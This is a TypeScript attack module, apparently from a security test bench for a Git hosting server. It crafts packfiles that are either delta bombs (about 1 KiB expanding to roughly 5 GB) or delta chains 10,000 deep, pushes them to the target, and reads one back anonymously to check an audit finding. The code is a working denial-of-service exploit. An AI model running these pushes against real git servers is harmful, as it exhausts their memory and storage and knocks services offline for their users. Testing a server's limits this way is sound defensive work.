// Finding 3: small packs whose deltas expand to gigabytes, or chain deeper than git allows.
import { once, type Attack } from '../attack.js';
import { rawPush } from '../git-push.js';
import { describeError, request } from '../http.js';
import { buildPack, objectId, receivePackRequest, ZERO_ID, type PackEntry } from '../../../../packages/test-support/src/wire.js';
import { MAX_DELTA_COPY } from '../../../../packages/git-format/src/index.js';
import { commitOf, DeltaBuilder, largeObjectId, treeOf } from '../git-objects.js';

const BOMB_OBJECTS = 10;
/** Each result just under the old code's object limit (GITFLEET_MAX_OBJECT_BYTES, 512 MiB). */
const BOMB_COPIES = Math.floor(500_000_000 / MAX_DELTA_COPY);
/** Deeper than git's own limit (4095, pack.depth). */
const CHAIN_DEPTH = 10_000;
const SETUP_PUSH_TIMEOUT_MS = 600_000;

const label = (text: string) => Buffer.from(text.padEnd(8, '.').slice(0, 8));

/**
 * One 64 KiB blob and BOMB_OBJECTS deltas on it, each one copy opcode byte per 64 KiB of
 * result: ~1 KiB of pack for ~5 GB of blobs, all in the pushed tree.
 */
function bombPack(): { pack: Buffer; commit: string; inflatedBytes: number } {
  const base = Buffer.alloc(MAX_DELTA_COPY, 'a');
  const entries: PackEntry[] = [{ type: 'blob', body: base }];
  const files = [{ name: 'base', oid: objectId('blob', base) }];
  let inflatedBytes = base.length;
  for (let i = 0; i < BOMB_OBJECTS; i++) {
    const prefix = label(`bomb${i}`);
    const delta = new DeltaBuilder(base.length).insert(prefix).repeatShortCopies(BOMB_COPIES);
    const content = function* () {
      yield prefix;
      for (let copy = 0; copy < BOMB_COPIES; copy++) yield base;
    };
    files.push({ name: `bomb${i}`, oid: largeObjectId('blob', delta.size, content()) });
    inflatedBytes += delta.size;
    entries.push({ ofsDeltaOf: 0, delta: delta.build() });
  }
  return { ...withCommit(entries, files, 'delta bomb'), inflatedBytes };
}

/** A chain of CHAIN_DEPTH ofs-deltas, each on the one before, each result 64 KiB; the tree holds the last. */
function chainPack(): { pack: Buffer; commit: string } {
  const base = Buffer.alloc(MAX_DELTA_COPY, 'c');
  const entries: PackEntry[] = [{ type: 'blob', body: base }];
  for (let depth = 1; depth <= CHAIN_DEPTH; depth++) {
    // Each result: its own 8-byte label, then the rest of the one before (unchanged since the base).
    const delta = new DeltaBuilder(base.length).insert(label(String(depth))).copy(8, base.length - 8);
    entries.push({ ofsDeltaOf: depth - 1, delta: delta.build() });
  }
  const tip = Buffer.concat([label(String(CHAIN_DEPTH)), base.subarray(8)]);
  return withCommit(entries, [{ name: 'tip', oid: objectId('blob', tip) }], 'deep delta chain');
}

function withCommit(entries: PackEntry[], files: Array<{ name: string; oid: string }>, message: string): { pack: Buffer; commit: string } {
  const tree = treeOf(files);
  const commit = commitOf(objectId('tree', tree), message);
  entries.push({ type: 'tree', body: tree }, { type: 'commit', body: commit });
  return { pack: buildPack(entries), commit: objectId('commit', commit) };
}

/** The request of a push creating main at `commit`, with the pack. */
function pushRequest(commit: string, pack: Buffer): Buffer {
  return receivePackRequest([{ old: ZERO_ID, new: commit, ref: 'refs/heads/main' }], ['report-status', 'agent=hostile-bench'], pack);
}

/** The attacker's repository the chain is pushed to (the read attack reads it back), and whether it was. */
const chainRepo = once(async (ctx) => {
  const { attacker } = await ctx.accounts();
  const repo = ctx.unique('chain');
  await ctx.api.createRepo(attacker, repo);
  return { owner: attacker, repo, ...chainPack(), pushed: false };
});

export const deltaBombAttacks: Attack[] = [
  {
    name: 'delta-bomb-push',
    finding: '3',
    async prepare(ctx) {
      const { attacker } = await ctx.accounts();
      const repo = ctx.unique('bomb');
      await ctx.api.createRepo(attacker, repo);
      const { pack, commit, inflatedBytes } = bombPack();
      const body = pushRequest(commit, pack);
      return async (limits) =>
        `${(pack.length / 1024).toFixed(1)} KiB pack → ${(inflatedBytes / 1e9).toFixed(1)} GB: ${await rawPush(ctx, attacker, repo, body, limits)}`;
    },
  },
  {
    name: 'delta-chain-push',
    finding: '3',
    async prepare(ctx) {
      const chain = await chainRepo(ctx);
      const body = pushRequest(chain.commit, chain.pack);
      return async (limits) => {
        chain.pushed = true;
        return `depth ${CHAIN_DEPTH}, ${(chain.pack.length / 1024).toFixed(0)} KiB pack: ${await rawPush(ctx, chain.owner, chain.repo, body, limits)}`;
      };
    },
  },
  {
    name: 'delta-chain-read',
    finding: '3',
    async prepare(ctx) {
      const chain = await chainRepo(ctx);
      const { owner, repo } = chain;
      // Run without the push attack (--only): the chain is pushed as set-up; a server that refuses it leaves nothing to read.
      if (!chain.pushed)
        await rawPush(ctx, owner, repo, pushRequest(chain.commit, chain.pack), {
          signal: new AbortController().signal,
          remainingMs: () => SETUP_PUSH_TIMEOUT_MS,
        });
      chain.pushed = true;
      return async (limits) => {
        try {
          const answer = await request(`${ctx.target.base()}/${owner.name}/${repo}/raw/main/tip`, {
            timeoutMs: limits.remainingMs(),
            signal: limits.signal,
          });
          return `GET raw of the chain's tip (anonymous): ${answer.status}, ${answer.bodyBytes} bytes`;
        } catch (error) {
          return describeError(error);
        }
      };
    },
  },
];
